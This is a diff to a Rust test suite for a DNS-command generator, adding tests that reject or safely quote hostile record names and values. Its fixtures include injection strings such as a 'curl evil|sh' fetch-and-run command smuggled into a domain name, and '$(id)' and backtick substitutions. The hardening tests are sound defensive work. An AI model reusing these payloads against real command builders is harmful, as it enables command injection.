@@ -12,7 +12,7 @@ fn record(kind: DnsKind, value: &str) -> DnsRecord {
 }
 
 fn text(record: &DnsRecord, provider: DnsProvider) -> String {
-    let all = texts(record, "contoso.com");
+    let all = texts(record, "contoso.com").expect("a record");
     let found = all.into_iter().find(|text| text.provider == provider);
     found.map(|text| text.text).unwrap_or_default()
 }
@@ -23,7 +23,7 @@ fn an_address_in_the_words_of_each_place() {
     for (provider, expected) in [
         (
             DnsProvider::AzureDns,
-            "az network dns record-set a add-record --resource-group <group> --zone-name contoso.com --record-set-name ml.models --ipv4-address 20.1.2.3",
+            "az network dns record-set a add-record --resource-group <group> --zone-name contoso.com --record-set-name ml.models --ipv4-address=20.1.2.3",
         ),
         (DnsProvider::ZoneFile, "ml.models.contoso.com. 300 IN A 20.1.2.3"),
         (
@@ -32,7 +32,7 @@ fn an_address_in_the_words_of_each_place() {
         ),
         (
             DnsProvider::WindowsServer,
-            "Add-DnsServerResourceRecord -A -ZoneName contoso.com -Name 'ml.models' -IPv4Address '20.1.2.3' -TimeToLive 00:05:00",
+            "Add-DnsServerResourceRecord -A -ZoneName contoso.com -Name ml.models -IPv4Address 20.1.2.3 -TimeToLive 00:05:00",
         ),
         (
             DnsProvider::GoogleCloudDns,
@@ -68,7 +68,7 @@ fn a_proof_is_text_and_in_public() {
 
 #[test]
 fn an_internal_address_goes_to_a_private_zone_first() {
-    let first = |value: &str| texts(&record(DnsKind::A, value), "contoso.com")[0].provider;
+    let first = |value: &str| texts(&record(DnsKind::A, value), "contoso.com").expect("a record")[0].provider;
     assert_eq!(first("10.1.2.3"), DnsProvider::AzurePrivateDns);
     assert_eq!(first("20.1.2.3"), DnsProvider::AzureDns);
 }
@@ -88,12 +88,160 @@ fn zones_and_hosts() {
     }
 }
 
+#[test]
+fn what_is_no_record_is_in_no_command() {
+    let good = record(DnsKind::A, "20.1.2.3");
+    for name in [
+        "",
+        "x;curl evil|sh;.victim.example",
+        "a b.com",
+        "$(id).com",
+        "`id`.com",
+        "a'.com",
+        "a\n.com",
+        "a\u{1b}[31m.com",
+        "-a.com",
+        "--help",
+        "a.*.com",
+        "ä.com",
+        "a\u{202e}.com",
+        "a/b.com",
+        "a%.com",
+    ] {
+        let bad = DnsRecord {
+            name: name.to_owned(),
+            ..good.clone()
+        };
+        assert_eq!(
+            texts(&bad, "contoso.com").map_err(|bad| bad.member),
+            Err("name"),
+            "{name:?}"
+        );
+        let bad = DnsRecord {
+            kind: DnsKind::Cname,
+            value: name.to_owned(),
+            ..good.clone()
+        };
+        assert_eq!(
+            texts(&bad, "contoso.com").map_err(|bad| bad.member),
+            Err("value"),
+            "{name:?}"
+        );
+        if !name.is_empty() {
+            assert_eq!(
+                texts(&good, name).map_err(|bad| bad.member),
+                Err("zone"),
+                "{name:?}"
+            );
+        }
+    }
+    for (kind, value, problem) in [
+        (DnsKind::A, "20.1.2", DnsProblem::Ipv4),
+        (DnsKind::A, "::1", DnsProblem::Ipv4),
+        (DnsKind::Aaaa, "20.1.2.3", DnsProblem::Ipv6),
+        (DnsKind::A, "20.1.2.3;id", DnsProblem::Ipv4),
+        (DnsKind::Cname, "a;id", DnsProblem::Name),
+        (DnsKind::Txt, "", DnsProblem::Text),
+        (DnsKind::Txt, "a\nb", DnsProblem::Text),
+        (DnsKind::Txt, "a\u{1b}b", DnsProblem::Text),
+        (DnsKind::Txt, "å", DnsProblem::Text),
+    ] {
+        let bad = record(kind, value);
+        assert_eq!(
+            texts(&bad, "contoso.com"),
+            Err(BadRecord {
+                member: "value",
+                problem
+            }),
+            "{value:?}"
+        );
+    }
+    assert_eq!(
+        texts(&good, "*.contoso.com").map_err(|bad| bad.member),
+        Err("zone")
+    );
+}
+
+/// The arguments that a real shell makes of a command, its program left out.
+fn arguments(command: &str) -> Vec<String> {
+    // `<…>` stands for what the person knows.
+    let command = command
+        .replace("<group>", "G")
+        .replace("<zone id>", "Z")
+        .replace("<zone>", "Z");
+    let (program, rest) = command.split_once(' ').expect("arguments");
+    let output = std::process::Command::new("sh")
+        .args([
+            "-c",
+            &format!("{program}() {{ printf '%s\\n' \"$@\"; }}; {program} {rest}"),
+        ])
+        .output()
+        .expect("a shell");
+    assert!(
+        output.status.success() && output.stderr.is_empty(),
+        "{command}: {output:?}"
+    );
+    String::from_utf8(output.stdout)
+        .expect("text")
+        .lines()
+        .map(str::to_owned)
+        .collect()
+}
+
+#[test]
+fn a_text_is_one_argument_to_each_shell() {
+    for value in [
+        "v';id;'",
+        "$(id)",
+        "`id`",
+        "a b",
+        "-starts-with-a-dash",
+        "a\"b",
+        "a\\b",
+        "a,b",
+        "*",
+        "a & b | c > d",
+        "!!",
+        "~",
+        "#",
+    ] {
+        let record = record(DnsKind::Txt, value);
+        let azure = arguments(&text(&record, DnsProvider::AzureDns));
+        assert_eq!(
+            azure.last().map(String::as_str),
+            Some(format!("--value={value}").as_str())
+        );
+        let route = arguments(&text(&record, DnsProvider::Route53));
+        let batch: serde_json::Value = serde_json::from_str(route.last().expect("a batch")).expect("JSON");
+        let told = &batch["Changes"][0]["ResourceRecordSet"]["ResourceRecords"][0]["Value"];
+        let escaped = value.replace('\\', "\\\\").replace('"', "\\\"");
+        assert_eq!(told, &serde_json::Value::from(format!("\"{escaped}\"")));
+        let google = arguments(&text(&record, DnsProvider::GoogleCloudDns));
+        let last = google.last().expect("a value");
+        assert!(
+            last.ends_with(&format!("\"{escaped}\"")) && last.starts_with("--rrdatas="),
+            "{last}"
+        );
+        let windows = text(&record, DnsProvider::WindowsServer);
+        let quoted = berth_domain::quote::powershell(value).expect("a value");
+        assert!(
+            windows.contains(&format!("-DescriptiveText {quoted} -TimeToLive")),
+            "{windows}"
+        );
+    }
+}
+
 proptest! {
     #[test]
     fn no_name_breaks_the_words(name in ".{0,60}", zone in ".{0,30}", value in ".{0,60}") {
         for kind in [DnsKind::A, DnsKind::Aaaa, DnsKind::Cname, DnsKind::Txt] {
             let record = DnsRecord { name: name.clone(), kind, value: value.clone() };
-            prop_assert!(texts(&record, &zone).len() >= 7);
+            if let Ok(all) = texts(&record, &zone) {
+                prop_assert!(all.len() >= 7);
+                for text in all {
+                    prop_assert!(!text.text.chars().any(|letter| letter.is_control() && letter != '\n'), "{:?}", text);
+                }
+            }
         }
     }
 }
